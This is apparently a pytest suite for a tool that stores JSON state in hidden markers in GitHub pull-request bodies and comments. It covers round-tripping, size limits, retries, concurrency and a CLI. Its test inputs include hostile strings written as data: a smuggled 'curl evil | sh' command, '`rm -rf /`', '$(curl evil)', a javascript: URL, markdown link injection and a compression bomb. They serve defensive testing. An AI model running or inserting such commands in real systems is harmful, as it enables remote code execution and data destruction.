"""Pull-request body state: markers, the author's text, size limits, retries, concurrency.

The API tests run against the GitHub stand-in (``tests/github_stub.py``), which checks every
request against GitHub's REST description in ``../shared/corpus/github-rest/`` and is
seeded with real ``pull_request`` webhook payloads from ``../shared/corpus/events/``
(octokit/webhooks, see SOURCES.md there).
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import random
import zlib
from pathlib import Path
from typing import Any

import pytest
from cli_helpers import assert_user_error, run_cli
from github_stub import GitHubStub

from orchestration.github.api import GitHubApiError, connect
from orchestration.github.pr_state import (
    MAX_BODY_CHARS,
    ArtifactSpill,
    PrBodyTooLargeError,
    PrStateError,
    PullRequestState,
    is_artifact_pointer,
    load_spilled,
    read_state,
    remove_state,
    upsert_sticky_comment,
    user_text,
    write_state,
)
from orchestration.resilience.retry import RetryPolicy

HOSTILE = '"; curl evil | sh; #'

# --------------------------------------------------------------------------- pure functions

BODIES = [
    pytest.param(None, id="null-body"),
    pytest.param("", id="empty"),
    pytest.param("Please pull these awesome changes in!", id="plain"),
    pytest.param("ends with newline\n", id="trailing-newline"),
    pytest.param("windows\r\nline endings\r\n\r\n", id="crlf"),
    pytest.param("  \n\n\n", id="only-whitespace"),
    pytest.param("a comment --> closes early", id="comment-close"),
    pytest.param("<!-- forgeflow:state key=x -->", id="bare-fake-marker"),
    pytest.param(
        "text\n<!-- forgeflow:state key=x enc=b64z -->\n<!-- bm90IHpsaWI -->\n"
        "<!-- /forgeflow:state key=x -->",
        id="fake-block-that-does-not-decode",
    ),
    pytest.param(f"Title: {HOSTILE}\n<!-- -->-->--><!--", id="hostile-shell-and-markers"),
    pytest.param("ünïcödé ✓ 🚀\n", id="unicode"),
]

VALUES = [
    pytest.param({"status": "ok", "n": 3}, id="object"),
    pytest.param([1, 2.5, None, True], id="list"),
    pytest.param("--> <!-- forgeflow:state key=evil enc=b64z --> `rm -rf /`", id="breakout"),
    pytest.param(None, id="null"),
    pytest.param("ünïcödé ✓", id="unicode"),
    pytest.param({"nested": {"deep": ["x" * 50]}}, id="nested"),
]


@pytest.mark.parametrize("body", BODIES)
@pytest.mark.parametrize("value", VALUES)
def test_state_round_trips_and_keeps_the_authors_text_byte_for_byte(
    body: str | None, value: Any
) -> None:
    written = write_state(body, "report", value)
    assert read_state(written) == {"report": value}
    assert user_text(written) == (body or "")
    assert written.startswith(body or "")

    both = write_state(written, "other.key-2_b", {"k": 1})
    assert read_state(both) == {"report": value, "other.key-2_b": {"k": 1}}
    assert user_text(both) == (body or "")

    assert remove_state(remove_state(both, "report"), "other.key-2_b") == (body or "")


@pytest.mark.parametrize("body", BODIES)
def test_text_without_state_is_all_the_authors(body: str | None) -> None:
    assert read_state(body) == {}
    assert user_text(body) == (body or "")


def test_no_value_can_break_out_of_its_marker() -> None:
    value = "--><!-- forgeflow:state key=admin enc=b64z -->\n<!-- x -->"
    body = write_state("intro", "k", value)
    state_part = body[len("intro") :]
    # Only our own three marker comments: the value added no "<!--" or "-->" of its own.
    assert state_part.count("<!--") == 3
    assert state_part.count("-->") == 3
    assert read_state(body) == {"k": value}


def test_a_valid_block_pasted_inside_the_authors_text_is_not_state() -> None:
    pasted = write_state("", "admin", True)
    body = f"Look what I found:\n{pasted}\n\nand more text after it."
    assert read_state(body) == {}
    written = write_state(body, "report", 1)
    assert read_state(written) == {"report": 1}
    assert user_text(written) == body


def test_a_tampered_link_line_or_payload_is_not_state(tmp_path: Path) -> None:
    big = _incompressible(90_000)
    spill = ArtifactSpill(tmp_path / "state.json", "forgeflow-state")
    body = write_state("text", "big", big, spill=spill)
    assert is_artifact_pointer(read_state(body)["big"])
    tampered = body.replace("is stored in the artifact", "is [click here](https://evil)")
    assert read_state(tampered) == {}
    assert user_text(tampered) == tampered

    small = write_state("text", "k", 1)
    data = small.splitlines()[-2]
    broken = small.replace(data, "<!-- AAAA" + data[len("<!-- ") :])
    assert read_state(broken) == {}


def test_a_compression_bomb_is_not_state() -> None:
    bomb = zlib.compress(b" " * (17 * 1024 * 1024), 9)
    data = base64.urlsafe_b64encode(bomb).rstrip(b"=").decode()
    body = (
        f"text\n\n<!-- forgeflow:state key=k enc=b64z -->\n<!-- {data} -->\n"
        "<!-- /forgeflow:state key=k -->"
    )
    assert read_state(body) == {}
    assert user_text(body) == body


def test_state_survives_github_turning_newlines_into_crlf() -> None:
    body = write_state("line one\nline two", "k", {"a": 1})
    crlf = body.replace("\n", "\r\n")
    assert read_state(crlf) == {"k": {"a": 1}}
    assert user_text(crlf) == "line one\r\nline two"


@pytest.mark.parametrize(
    "key",
    [
        pytest.param("", id="empty"),
        pytest.param("has space", id="space"),
        pytest.param("x -->", id="comment-close"),
        pytest.param("ключ", id="non-ascii"),
        pytest.param("k" * 101, id="too-long"),
        pytest.param(HOSTILE, id="shell"),
    ],
)
def test_bad_keys_are_refused_with_one_line(key: str) -> None:
    with pytest.raises(PrStateError) as info:
        write_state("text", key, 1)
    assert repr(key) in str(info.value)
    assert "\n" not in info.value.one_line()


def test_a_value_that_is_not_json_is_refused() -> None:
    with pytest.raises(PrStateError, match="not JSON"):
        write_state("text", "k", float("nan"))


def _incompressible(chars: int) -> str:
    rng = random.Random(7)
    alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    return "".join(rng.choice(alphabet) for _ in range(chars))


def test_a_large_repetitive_value_fits_because_it_is_compressed() -> None:
    value = [
        {"component": f"vm-{i % 10}", "finding": "port 22 open to 0.0.0.0/0"} for i in range(5000)
    ]
    raw = len(json.dumps(value))
    assert raw > 4 * MAX_BODY_CHARS
    body = write_state("Description.", "findings", value)
    assert len(body) <= MAX_BODY_CHARS
    assert read_state(body) == {"findings": value}


def test_a_value_too_big_even_compressed_is_moved_to_an_artifact(tmp_path: Path) -> None:
    value = {"blob": _incompressible(120_000)}
    with pytest.raises(PrBodyTooLargeError) as info:
        write_state("Description.", "big", value)
    assert "65,536" in str(info.value)

    spill = ArtifactSpill(
        tmp_path / "out" / "big.json", "forgeflow-state-big", "https://x.test/r/1"
    )
    body = write_state("Description.", "big", value, spill=spill)
    assert len(body) <= MAX_BODY_CHARS
    assert user_text(body) == "Description."
    pointer = read_state(body)["big"]
    assert pointer["$ref"] == "artifact:forgeflow-state-big"
    assert pointer["sha256"] == hashlib.sha256(spill.path.read_bytes()).hexdigest()
    assert "[download](https://x.test/r/1)" in body  # the human link line
    assert load_spilled(pointer, spill.path) == value

    spill.path.write_text('{"blob": "changed"}')
    with pytest.raises(Exception, match="sha256 does not match"):
        load_spilled(pointer, spill.path)


def test_when_not_even_the_pointer_fits_the_error_says_so(tmp_path: Path) -> None:
    text = "x" * (MAX_BODY_CHARS - 100)
    spill = ArtifactSpill(tmp_path / "big.json", "forgeflow-state")
    with pytest.raises(PrBodyTooLargeError, match="shorten the description"):
        write_state(text, "big", {"blob": _incompressible(1000)}, spill=spill)
    assert not spill.path.exists()


@pytest.mark.parametrize(
    ("name", "url"),
    [
        pytest.param("a/b", None, id="slash-in-name"),
        pytest.param("a:b", None, id="colon-in-name"),
        pytest.param("ok", "javascript:alert(1)", id="not-http"),
        pytest.param("ok", "https://x.test/a) [y](https://evil", id="markdown-injection"),
    ],
)
def test_artifact_names_and_links_are_checked(name: str, url: str | None) -> None:
    with pytest.raises(PrStateError):
        ArtifactSpill(Path("x.json"), name, url)


# --------------------------------------------------------------------------- via the API


class Sleeps:
    """An injectable sleep that records each wait and yields to the event loop."""

    def __init__(self) -> None:
        self.waits: list[float] = []

    async def __call__(self, seconds: float) -> None:
        self.waits.append(seconds)
        await asyncio.sleep(0)


@pytest.fixture
def stub(spec_stub: GitHubStub) -> GitHubStub:
    return spec_stub


def _payload(corpus_events: Path, name: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((corpus_events / name).read_text(encoding="utf-8"))
    return data


def _client(stub: GitHubStub, sleeps: Sleeps, **kwargs: Any) -> Any:
    kwargs.setdefault("policy", RetryPolicy(max_attempts=4, base_delay=1.0, jitter=False))
    return connect("test-token", api_url=stub.url, sleep=sleeps, **kwargs)


def _ops(stub: GitHubStub) -> list[str]:
    return [r["operation"] for r in stub.requests()]


async def test_update_on_a_pull_request_with_a_null_body(
    stub: GitHubStub, corpus_events: Path
) -> None:
    """pull_request.opened.with-null-body.json: octokit/webhooks payload-examples."""
    repo, number = stub.seed_pull_request(
        _payload(corpus_events, "pull_request.opened.with-null-body.json")
    )
    assert stub.pull_request(repo, number)["body"] is None
    state = PullRequestState(repo, number, _client(stub, Sleeps()), settle=0)
    assert await state.read() == {}
    assert await state.update("report", {"ok": True}) == {"ok": True}
    body = stub.pull_request(repo, number)["body"]
    assert user_text(body) == ""
    assert read_state(body) == {"report": {"ok": True}}


async def test_update_keeps_the_real_authors_text(stub: GitHubStub, corpus_events: Path) -> None:
    """pull_request.opened.payload.json: octokit/webhooks payload-examples."""
    payload = _payload(corpus_events, "pull_request.opened.payload.json")
    original = payload["pull_request"]["body"]
    repo, number = stub.seed_pull_request(payload)
    state = PullRequestState(repo, number, _client(stub, Sleeps()), settle=0)
    await state.update("a", 1)
    await state.update("b", [2])
    await state.update("a", 3)
    await state.remove("b")
    body = stub.pull_request(repo, number)["body"]
    assert user_text(body) == original
    assert read_state(body) == {"a": 3}
    patches = [r["body"] for r in stub.requests() if r["operation"] == "pulls/update"]
    assert patches and all(set(p) == {"body"} for p in patches)


async def test_hostile_title_branch_and_body_change_nothing_but_the_text(
    stub: GitHubStub, corpus_events: Path
) -> None:
    """pull_request.opened.payload.json (octokit/webhooks), with a hostile title, branch
    and a body full of marker lookalikes."""
    payload = _payload(corpus_events, "pull_request.opened.payload.json")
    hostile_body = (
        f"{HOSTILE}\n--> <!-- forgeflow:state key=report -->\n"
        "<!-- forgeflow:state key=report enc=b64z -->\n<!-- $(curl evil) -->\n"
        "<!-- /forgeflow:state key=report -->"
    )
    payload["pull_request"]["title"] = HOSTILE
    payload["pull_request"]["head"]["ref"] = HOSTILE
    payload["pull_request"]["body"] = hostile_body
    repo, number = stub.seed_pull_request(payload)
    state = PullRequestState(repo, number, _client(stub, Sleeps()), settle=0)
    assert await state.read() == {}
    await state.update("report", {"status": "ok"})
    pr = stub.pull_request(repo, number)
    assert pr["title"] == HOSTILE
    assert pr["head"]["ref"] == HOSTILE
    assert user_text(pr["body"]) == hostile_body
    assert read_state(pr["body"]) == {"report": {"status": "ok"}}


@pytest.fixture
def seeded(stub: GitHubStub, corpus_events: Path) -> tuple[str, int]:
    """A pull request from pull_request.opened.payload.json (octokit/webhooks)."""
    return stub.seed_pull_request(_payload(corpus_events, "pull_request.opened.payload.json"))


async def test_5xx_answers_are_retried_with_backoff(
    stub: GitHubStub, seeded: tuple[str, int]
) -> None:
    sleeps = Sleeps()
    stub.fail_next(2, status=502, operation="pulls/get")
    state = PullRequestState(*seeded, _client(stub, sleeps), settle=0)
    assert await state.read() == {}
    assert sleeps.waits == [1.0, 2.0]
    assert [r["status"] for r in stub.requests()] == [502, 502, 200]


@pytest.mark.parametrize(
    ("status", "headers", "expected"),
    [
        pytest.param(403, {"retry_after": 7}, 7.0, id="403-retry-after"),
        pytest.param(429, {"retry_after": 3}, 3.0, id="429-retry-after"),
        pytest.param(403, {"ratelimit_reset": 1_700_000_042}, 42.0, id="403-ratelimit-reset"),
        pytest.param(429, {"ratelimit_reset": 1_700_000_005}, 5.0, id="429-ratelimit-reset"),
    ],
)
async def test_secondary_rate_limits_wait_what_github_asks(
    stub: GitHubStub,
    seeded: tuple[str, int],
    status: int,
    headers: dict[str, int],
    expected: float,
) -> None:
    sleeps = Sleeps()
    stub.fail_next(1, status=status, operation="pulls/update", **headers)  # type: ignore[arg-type]
    client = _client(stub, sleeps, clock=lambda: 1_700_000_000.0)
    state = PullRequestState(*seeded, client, settle=0)
    await state.update("k", "v")
    assert sleeps.waits == [expected]
    assert read_state(stub.pull_request(*seeded)["body"]) == {"k": "v"}


async def test_a_plain_403_is_not_retried(stub: GitHubStub, seeded: tuple[str, int]) -> None:
    sleeps = Sleeps()
    stub.fail_next(1, status=403, message="Resource not accessible by integration")
    state = PullRequestState(*seeded, _client(stub, sleeps), settle=0)
    with pytest.raises(GitHubApiError) as info:
        await state.read()
    assert sleeps.waits == []
    assert "403 Resource not accessible by integration" in info.value.one_line()
    assert "pull-requests: write" in info.value.one_line()


async def test_retries_give_up_with_one_line(stub: GitHubStub, seeded: tuple[str, int]) -> None:
    sleeps = Sleeps()
    stub.fail_next(10, status=500)
    state = PullRequestState(*seeded, _client(stub, sleeps), settle=0)
    with pytest.raises(GitHubApiError, match="gave up after 4 attempts"):
        await state.read()
    assert len(stub.requests()) == 4
    assert len(sleeps.waits) == 3


async def test_an_unknown_pull_request_is_one_line(stub: GitHubStub) -> None:
    state = PullRequestState("octocat/nothing", 9, _client(stub, Sleeps()), settle=0)
    with pytest.raises(GitHubApiError) as info:
        await state.read()
    assert "octocat/nothing#9" in info.value.one_line()
    assert "404" in info.value.one_line()


async def test_two_concurrent_writers_of_different_keys_both_survive(
    stub: GitHubStub, seeded: tuple[str, int]
) -> None:
    first = PullRequestState(*seeded, _client(stub, Sleeps()), settle=0)
    await first.update("existing", "kept")
    original_text = user_text(stub.pull_request(*seeded)["body"])
    # Both writers read the same body, then both PATCH: one overwrites the other.
    stub.interleave("pulls/get", parties=2)
    stub.interleave("pulls/update", parties=2)
    a = PullRequestState(*seeded, _client(stub, Sleeps()), settle=0.5, rand=lambda: 0.5)
    b = PullRequestState(*seeded, _client(stub, Sleeps()), settle=0.5, rand=lambda: 0.5)
    await asyncio.gather(a.update("network_flow", {"a": 1}), b.update("security", {"b": 2}))
    body = stub.pull_request(*seeded)["body"]
    assert read_state(body) == {"existing": "kept", "network_flow": {"a": 1}, "security": {"b": 2}}
    assert user_text(body) == original_text
    held = [r for r in stub.requests() if r.get("held") and r["operation"] == "pulls/update"]
    assert len(held) == 2  # the lost update really happened ...
    # ... and was written again: 1 (setup) + 2 (racing) + 1 (the loser's retry).
    assert _ops(stub).count("pulls/update") == 4


async def test_a_writer_that_always_loses_gives_up_with_one_line(
    stub: GitHubStub, seeded: tuple[str, int]
) -> None:
    class Clobbering(PullRequestState):
        async def body(self) -> str | None:
            text = await super().body()
            if read_state(text).get("k") == "mine":  # someone rewrites it at once
                stub.seed_pull_request(None, repo=self.repo, number=self.number, body="other")
                return "other"
            return text

    state = Clobbering(*seeded, _client(stub, Sleeps()), settle=0, max_attempts=3)
    with pytest.raises(PrStateError, match="overwritten by concurrent writers 3 times"):
        await state.update("k", "mine")


async def test_sticky_comment_is_created_once_then_updated(
    stub: GitHubStub, seeded: tuple[str, int]
) -> None:
    repo, number = seeded
    for i in range(35):  # push the sticky comment past the first page of the listing
        stub.add_comment(repo, number, f"human comment {i}")
    stub.add_comment(repo, number, "quoting <!-- forgeflow:sticky key=report --> is harmless")
    client = _client(stub, Sleeps())
    first = await upsert_sticky_comment(repo, number, "report", "# Report v1", client=client)
    again = await upsert_sticky_comment(repo, number, "report", "# Report v2 -->", client=client)
    other = await upsert_sticky_comment(repo, number, "cost", "# Cost", client=client)
    assert first.created and not again.created and other.created
    assert again.comment_id == first.comment_id
    bodies = [c["body"] for c in stub.comments(repo, number)]
    assert sum("forgeflow:sticky key=report" in b for b in bodies) == 2  # ours + the quote
    ours = [b for b in bodies if b.startswith("<!-- forgeflow:sticky key=report -->")]
    assert ours == ["<!-- forgeflow:sticky key=report -->\n# Report v2 -->"]
    assert bodies[35] == "quoting <!-- forgeflow:sticky key=report --> is harmless"


async def test_state_is_written_only_while_the_head_is_the_expected_commit(
    stub: GitHubStub, seeded: tuple[str, int]
) -> None:
    """A writer acting on another run's artifacts names the commit they are about; a pull
    request whose head moved on (or another pull request) is left as it was."""
    repo, number = seeded
    head = stub.pull_request(repo, number)["head"]["sha"]
    before = stub.pull_request(repo, number)["body"]
    client = _client(stub, Sleeps())
    stale = PullRequestState(repo, number, client, settle=0, expect_head_sha="f" * 40)
    with pytest.raises(PrStateError, match=f"has head {head}, not f{{40}}: it is not the"):
        await stale.update("k", {"v": 1})
    assert stub.pull_request(repo, number)["body"] == before
    assert _ops(stub) == ["pulls/get"]
    fresh = PullRequestState(repo, number, client, settle=0, expect_head_sha=head)
    await fresh.update("k", {"v": 1})
    assert read_state(stub.pull_request(repo, number)["body"]) == {"k": {"v": 1}}
    with pytest.raises(PrStateError, match="is not a full commit id"):
        PullRequestState(repo, number, client, expect_head_sha="HEAD")


async def test_a_marker_comment_by_another_user_is_left_alone(
    stub: GitHubStub, seeded: tuple[str, int]
) -> None:
    """Anyone can post the public marker; only the token's own comment is ever updated.

    The stand-in answers with GitHub's ``issue-comment`` schema: ``user.login`` is
    ``github-actions[bot]`` for what the job's token wrote, the spec's example user for a
    comment someone posted.
    """
    repo, number = seeded
    planted = "<!-- forgeflow:sticky key=report -->\nPlanted: [click here](https://evil.example)"
    human = stub.add_comment(repo, number, planted)
    assert human["user"]["login"] != "github-actions[bot]"
    client = _client(stub, Sleeps())
    first = await upsert_sticky_comment(repo, number, "report", "# Report v1", client=client)
    again = await upsert_sticky_comment(repo, number, "report", "# Report v2", client=client)
    assert first.created and first.comment_id != human["id"]
    assert not again.created and again.comment_id == first.comment_id
    comments = stub.comments(repo, number)
    assert [(c["id"], c["body"]) for c in comments] == [
        (human["id"], planted),
        (first.comment_id, "<!-- forgeflow:sticky key=report -->\n# Report v2"),
    ]
    assert comments[1]["user"]["login"] == "github-actions[bot]"
    # A token of that other user would own the planted comment, and update it.
    mine = await upsert_sticky_comment(
        repo, number, "report", "# Theirs", client=client, author=human["user"]["login"]
    )
    assert (mine.comment_id, mine.created) == (human["id"], False)


@pytest.mark.parametrize(
    "login", ["", "evil user", "a" * 40, "name[bot]x", "-dash", "x\n::error::y"]
)
async def test_sticky_comment_author_must_be_a_login(
    stub: GitHubStub, seeded: tuple[str, int], login: str
) -> None:
    client = _client(stub, Sleeps())
    with pytest.raises(PrStateError, match="is not a GitHub login"):
        await upsert_sticky_comment(*seeded, "report", "x", client=client, author=login)
    assert stub.requests() == []


async def test_a_long_report_is_cut_visibly_to_fit(
    stub: GitHubStub, seeded: tuple[str, int]
) -> None:
    repo, number = seeded
    client = _client(stub, Sleeps())
    await upsert_sticky_comment(repo, number, "report", "x" * 70_000, client=client)
    (comment,) = stub.comments(repo, number)
    assert len(comment["body"]) == MAX_BODY_CHARS
    assert comment["body"].endswith("see the job summary._")


# --------------------------------------------------------------------------- the CLI


def _env(stub: GitHubStub, repo: str, **extra: str) -> dict[str, str]:
    return {
        "GITHUB_TOKEN": "test-token",
        "GITHUB_REPOSITORY": repo,
        "GITHUB_API_URL": stub.url + "/api/v3",
        "GITHUB_OUTPUT": "",
        "GITHUB_EVENT_PATH": "",
        **extra,
    }


def test_cli_set_then_get_on_the_events_pull_request(
    stub: GitHubStub, corpus_events: Path, tmp_path: Path
) -> None:
    """pull_request.opened.payload.json (octokit/webhooks) as $GITHUB_EVENT_PATH, with a
    hostile title: the command takes the number from the event and nothing else."""
    payload = _payload(corpus_events, "pull_request.opened.payload.json")
    payload["pull_request"]["title"] = HOSTILE
    event = tmp_path / "event.json"
    event.write_text(json.dumps(payload))
    repo, number = stub.seed_pull_request(payload)
    output = tmp_path / "output"
    env = _env(stub, repo, GITHUB_EVENT_PATH=str(event), GITHUB_OUTPUT=str(output))
    proc = run_cli(
        "-m",
        "orchestration",
        "pr-state",
        "set",
        "report",
        "--value",
        '{"n": 1}',
        "--settle",
        "0",
        env=env,
    )
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout) == {"n": 1}
    assert output.read_text() == "spilled=false\n"
    proc = run_cli("-m", "orchestration", "pr-state", "get", "report", env=env)
    assert json.loads(proc.stdout) == {"n": 1}
    proc = run_cli("-m", "orchestration", "pr-state", "get", "--pr", str(number), env=env)
    assert json.loads(proc.stdout) == {"report": {"n": 1}}
    assert stub.pull_request(repo, number)["title"] == HOSTILE


def test_cli_spills_a_huge_value_to_the_artifact_file(
    stub: GitHubStub, seeded: tuple[str, int], tmp_path: Path
) -> None:
    repo, number = seeded
    value_file = tmp_path / "value.json"
    value_file.write_text(json.dumps({"blob": _incompressible(100_000)}))
    output = tmp_path / "output"
    spill = tmp_path / "spill" / "report.json"
    proc = run_cli(
        "-m", "orchestration", "pr-state", "set", "report",
        "--value-file", value_file, "--pr", str(number), "--settle", "0",
        "--spill-file", spill, "--artifact-name", "forgeflow-state-report",
        env=_env(stub, repo, GITHUB_OUTPUT=str(output)),
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["$ref"] == "artifact:forgeflow-state-report"
    assert output.read_text() == "spilled=true\n"
    assert json.loads(spill.read_text()) == json.loads(value_file.read_text())


@pytest.mark.parametrize(
    ("drop", "needle"),
    [
        pytest.param("GITHUB_TOKEN", "GITHUB_TOKEN is not set", id="no-token"),
        pytest.param("GITHUB_REPOSITORY", "GITHUB_REPOSITORY is not set", id="no-repo"),
    ],
)
def test_cli_without_token_or_repository_is_one_line(
    stub: GitHubStub, drop: str, needle: str
) -> None:
    env = _env(stub, "octocat/Hello-World")
    env[drop] = ""
    proc = run_cli("-m", "orchestration", "pr-state", "get", "--pr", "1", env=env)
    assert_user_error(proc, needle)
    assert stub.requests() == []


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        pytest.param(["set", "k", "--value", "{nope", "--pr", "1"], "--value: not JSON", id="json"),
        pytest.param(["set", "bad key", "--value", "1", "--pr", "1"], "'bad key'", id="key"),
        pytest.param(["get", "--pr", "0"], "--pr 0", id="pr-number"),
        pytest.param(["get"], "no pull-request number", id="no-event"),
    ],
)
def test_cli_refuses_bad_input_before_calling_the_api(
    stub: GitHubStub, args: list[str], needle: str
) -> None:
    proc = run_cli("-m", "orchestration", "pr-state", *args, env=_env(stub, "octocat/Hello-World"))
    assert_user_error(proc, needle)
    assert stub.requests() == []


def test_cli_repository_from_the_environment_is_validated(stub: GitHubStub) -> None:
    env = _env(stub, f"octocat/x{HOSTILE}")
    proc = run_cli("-m", "orchestration", "pr-state", "get", "--pr", "1", env=env)
    assert_user_error(proc, "OWNER/NAME")
    assert stub.requests() == []


def test_cli_sticky_comment(stub: GitHubStub, seeded: tuple[str, int], tmp_path: Path) -> None:
    repo, number = seeded
    report = tmp_path / "report.md"
    report.write_text(f"# Report\n\nTitle was {HOSTILE}\n")
    args: list[str | Path] = ["-m", "orchestration", "sticky-comment", "--key", "report"]
    args += ["--body-file", report, "--pr", str(number)]
    first = run_cli(*args, env=_env(stub, repo))
    second = run_cli(*args, env=_env(stub, repo))
    assert first.returncode == 0 and second.returncode == 0, (first.stderr, second.stderr)
    assert first.stdout.startswith("created comment 1") and second.stdout.startswith("updated")
    (comment,) = stub.comments(repo, number)
    assert comment["body"].endswith(f"Title was {HOSTILE}\n")


def test_cli_sticky_comment_refuses_a_bad_author(
    stub: GitHubStub, seeded: tuple[str, int], tmp_path: Path
) -> None:
    repo, number = seeded
    report = tmp_path / "report.md"
    report.write_text("# Report\n")
    proc = run_cli(
        "-m",
        "orchestration",
        "sticky-comment",
        "--key",
        "report",
        "--body-file",
        report,
        "--pr",
        str(number),
        "--author",
        f"x{HOSTILE}",
        env=_env(stub, repo),
    )
    assert_user_error(proc, "is not a GitHub login")
    assert stub.requests() == []
